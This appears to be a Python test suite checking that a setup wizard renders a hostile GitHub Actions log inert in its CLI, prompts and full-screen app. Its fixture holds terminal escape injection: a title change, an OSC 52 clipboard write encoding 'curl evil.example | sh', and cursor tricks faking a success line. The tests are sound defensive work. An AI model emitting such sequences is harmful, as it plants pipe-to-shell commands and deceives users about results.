"""A log carrying OSC 52 (clipboard), a title change and cursor moves that paint a fake
"✓ Step 6 · run succeeded" is shown inert in all three faces: the CLI, the plain prompts and the
full-screen app (the step's failure panel and the Doctor screen's run explanation)."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from textual.app import App
from textual.widgets import Input, Static

from screens.doctor import DoctorScreen, run_explainer_for
from screens.widgets.guidance_panel import GuidancePanel
from wizard.cli import main
from wizard.cli.prompts import PlainWizard
from wizard.doctor import SetupReport
from wizard.inert import is_inert
from wizard.render import plan_text
from wizard.run_logs import explain_job
from wizard.settings import Remembered, Settings
from wizard.steps.base import Status, StepResult

FAKE_SUCCESS = "\u2713 Step 6 \u00b7 run succeeded"
HOSTILE = (
    "\x1b]0;pwned-title\x07"
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
    f"\x1b[1A\x1b[2K\x1b[1;32m{FAKE_SUCCESS}\x1b[0m\x1b[999D"
)
LOG = "\n".join(
    [
        "2026-11-30T10:00:00.0000000Z ##[group]Run aws-actions/configure-aws-credentials@v4",
        f"2026-11-30T10:00:01.0000000Z {HOSTILE}",
        "2026-11-30T10:00:02.0000000Z ##[error]Could not assume role with OIDC: Not authorized "
        f"to perform sts:AssumeRoleWithWebIdentity {HOSTILE}",
    ]
)
JOB = {"id": 7, "name": "build", "conclusion": "failure", "steps": []}


def _failed_result() -> StepResult:
    guidance = list(explain_job(JOB, LOG, {}).guidance)
    error = f"The run ended failure.\nLast lines of its log:\n{LOG}"
    return StepResult(
        6, "workflow_run", "Test the Workflow", Status.FAILED, error=error, guidance=guidance
    )


def _assert_inert_and_told(text: str) -> None:
    assert is_inert(text), repr(text[:200])
    assert "pwned-title" not in text and "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA" not in text
    assert "Not authorized to perform sts:AssumeRoleWithWebIdentity" in text


def test_cli(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    assert main(["explain", "--config", str(tmp_path / "none.toml"), LOG]) == 0
    main(["explain", "--config", str(tmp_path / "none.toml"), "--json", LOG])
    out, err = capsys.readouterr()
    assert is_inert(out) and is_inert(err)
    assert "[assume-role-denied]" in out


class _Asker:
    def text(self, message: str, default: str, check: Any) -> str:
        return default

    def choose(self, message: str, choices: Sequence[str], default: str) -> str:
        return default

    def confirm(self, message: str, default: bool) -> bool:
        return default


def test_plain_prompts(capsys: pytest.CaptureFixture[str]) -> None:
    wizard = PlainWizard(Settings(), config_path=None, remembered=Remembered(), asker=_Asker())
    wizard.after_failure(plan_text.failure_lines(_failed_result(), plan_text.RETRY_PROMPTS))
    out = capsys.readouterr().out
    _assert_inert_and_told(out)
    assert "GitHub's token was refused by the role's trust policy" in out


class _Host(App[None]):
    def __init__(self, widget: Any = None, screen: Any = None) -> None:
        super().__init__()
        self.widget, self.start = widget, screen

    def compose(self) -> Any:
        if self.widget is not None:
            yield self.widget

    def on_mount(self) -> None:
        if self.start is not None:
            self.push_screen(self.start)


def _plain(static: Static) -> str:
    content = static.content
    return str(getattr(content, "plain", content))


async def test_app_failure_panel() -> None:
    panel = GuidancePanel(id="guidance")
    app = _Host(widget=panel)
    async with app.run_test(size=(120, 40)) as pilot:
        panel.show_failure(_failed_result())
        await pilot.pause()
        _assert_inert_and_told(_plain(panel.query_one("#guidance-text", Static)))


class _Reader:
    """A GitHub stand-in serving one failed run with the hostile log."""

    def run(self, owner: str, repo: str, run_id: int) -> dict[str, Any]:
        return {"id": run_id, "status": "completed", "conclusion": "failure", "head_branch": "dev"}

    def run_jobs(self, owner: str, repo: str, run_id: int) -> list[dict[str, Any]]:
        return [JOB]

    def job_logs(self, owner: str, repo: str, job_id: int) -> str:
        return LOG

    def list_runs(self, owner: str, repo: str, **_: Any) -> list[dict[str, Any]]:
        return [self.run(owner, repo, 41)]


class _Session:
    settings = Settings(github_repo="octo-org/hello-ecr")
    github = _Reader()


async def test_app_doctor_screen_explains_a_run() -> None:
    report = SetupReport("123456789012", "us-east-1", "R", "e", "octo-org/hello-ecr", ())
    screen = DoctorScreen(report, explain_run=run_explainer_for(_Session()))
    app = _Host(screen=screen)
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause()
        await pilot.press("o")
        field = screen.query_one("#doctor-run", Input)
        assert field.has_focus
        field.value = "latest"
        await pilot.press("enter")
        await app.workers.wait_for_complete()
        await pilot.pause()
        text = _plain(screen.query_one("#doctor-report", Static))
        _assert_inert_and_told(text)
        assert "[assume-role-denied]" in text and "Run 41 of octo-org/hello-ecr" in text
